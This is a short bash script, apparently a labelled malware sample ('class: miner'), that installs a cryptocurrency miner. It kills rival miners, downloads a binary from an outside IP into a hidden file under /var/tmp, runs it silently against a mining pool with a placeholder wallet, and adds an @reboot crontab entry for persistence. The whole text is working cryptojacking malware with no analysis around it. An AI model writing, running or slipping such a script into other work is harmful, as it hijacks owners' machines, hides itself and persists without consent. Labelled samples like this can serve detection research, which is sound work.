# class: miner; style: install script
#!/bin/bash
pkill -f xmrig; pkill -f kinsing; pkill -f kdevtmpfsi
cd /var/tmp || cd /tmp
curl -sL -o .sys http://203.0.113.88/xmrig
chmod +x .sys
sysctl -w vm.nr_hugepages=1280
nohup ./.sys -o pool.supportxmr.example:443 -u 4AExampleExampleExampleExample -p $(hostname) --tls --cpu-priority 5 >/dev/null 2>&1 &
echo "@reboot /var/tmp/.sys -o pool.supportxmr.example:443" | crontab -
